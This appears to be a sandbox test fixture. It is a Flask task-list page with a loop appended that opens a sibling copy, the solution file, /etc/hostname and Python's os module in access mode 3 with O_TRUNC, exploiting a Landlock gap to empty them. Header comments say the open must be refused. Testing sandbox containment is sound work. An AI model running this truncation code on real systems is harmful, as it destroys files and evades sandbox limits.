# attack: empties files outside its copy by opening them in access mode 3, which asks Landlock for no right
# must: be refused such an open, whatever the kernel's Landlock has a say in
# check: page_loads passed
import uuid
from flask import Flask, g, make_response, render_template_string, request
from flask.views import MethodView
app = Flask(__name__)
TASKS = __TASKS__
PAGE = """<!doctype html><title>My tasks</title>
<ul>{% for task in tasks %}<li>{{ task }}</li>{% endfor %}</ul>
<a href="{{ url_for('home') }}">Home</a>"""
@app.before_request
def tag():
    g.request_id = uuid.uuid4().hex
class HomeView(MethodView):
    def get(self):
        return make_response(render_template_string(PAGE, tasks=TASKS))
app.add_url_rule("/", view_func=HomeView.as_view("home"))
@app.after_request
def stamp(response):
    response.headers["X-Request-ID"] = "placeholder"
    return response

import os
for path in ("__SIBLING__", "__SOLUTION__", "/etc/hostname", os.__file__):
    for flags in (3, 3 | os.O_TRUNC):
        try:
            os.close(os.open(path, flags))
            print("PWNED opened", path, flags)
        except OSError as error:
            print("blocked", error)
